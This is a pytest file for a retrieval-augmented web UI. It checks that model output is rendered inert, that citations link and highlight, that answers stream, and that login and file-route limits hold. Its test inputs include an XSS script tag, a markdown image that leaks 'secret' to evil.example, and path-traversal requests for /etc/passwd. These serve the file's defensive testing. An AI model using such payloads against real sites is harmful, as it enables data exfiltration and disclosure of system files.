"""The web UI: what it renders, and the running app through gradio_client on the loopback."""

from __future__ import annotations

import json
import urllib.error
import urllib.request

import pytest

from rag_ui.render import answer_markdown, citation_panel, inert


def test_model_output_is_rendered_inert():
    hostile = (
        "<script>alert(1)</script> ![x](http://evil.example/q.png?q=secret) [click](https://evil.example)"
    )
    out = inert(hostile)
    assert "<script" not in out and "<img" not in out
    assert "http://" not in out and "https://" not in out  # no autolinks either
    assert "\\!\\[x\\]" in out  # the image syntax is escaped, so markdown shows it as text


def test_citation_markers_become_links_to_their_cards_and_badges_show_state():
    md = answer_markdown("Hanoi signed in March [1]. It covers trade [2].", degraded=True, answered=True)
    assert '<a href="#cite-1">[1]</a>' in md and '<a href="#cite-2">[2]</a>' in md
    assert "model unavailable, extractive answer" in md


def test_citation_panel_highlights_each_quote_in_its_paragraph_and_escapes_it():
    from rag.types import Answer, Citation

    text = "First line.\nThe <b>city</b> signed an agreement. More.\nLast."
    start = text.index("The")
    end = text.index(" More")
    answer = Answer(
        text="x [1]", answered=True, citations=[Citation("d.txt", text[start:end], start, end, "en")]
    )
    html = citation_panel(answer, lambda doc_id: text)
    assert "<mark>The &lt;b&gt;city&lt;/b&gt; signed an agreement.</mark> More." in html
    assert "First line" not in html and 'id="cite-1"' in html


def test_gradio_client_gets_a_streamed_answer_with_its_citations(app_url):
    from gradio_client import Client

    client = Client(app_url, verbose=False)
    job = client.submit("What did Hanoi sign with St Petersburg?", [], "", 5, api_name="/ask")
    final = job.result(timeout=120)
    updates = job.outputs()
    assert len(updates) >= 2  # a placeholder, then the answer: it streams
    chat, panel = final[0], final[1]
    assert "Petersburg" in json.dumps(chat, ensure_ascii=False)
    assert "Sankt Petersburg" in panel and "Saint Petersburg" in panel and "<mark>" in panel


def test_an_overlong_question_gets_a_message_not_a_traceback(app_url):
    from gradio_client import Client

    final = Client(app_url, verbose=False).predict("x" * 5000, [], "", 5, api_name="/ask")
    assert "limit" in json.dumps(final[0], ensure_ascii=False)


@pytest.mark.parametrize("path", ["/etc/passwd", "../../../../etc/passwd", "seeds/000_235633b48e1d49de.txt"])
def test_file_routes_serve_nothing_outside_what_the_ui_needs(app_url, path):
    with pytest.raises(urllib.error.HTTPError) as err:
        urllib.request.urlopen(app_url + "gradio_api/file=" + path, timeout=10)
    assert err.value.code in (403, 404)


def test_the_ui_off_the_loopback_requires_a_login():
    from rag.settings import Settings
    from rag_ui.app import login_for

    assert login_for(Settings(), "127.0.0.1") is None
    with pytest.raises(ValueError, match="RAG_UI_AUTH"):
        login_for(Settings(), "0.0.0.0")
    assert login_for(Settings(ui_auth="ann:s3cret"), "0.0.0.0") == ("ann", "s3cret")
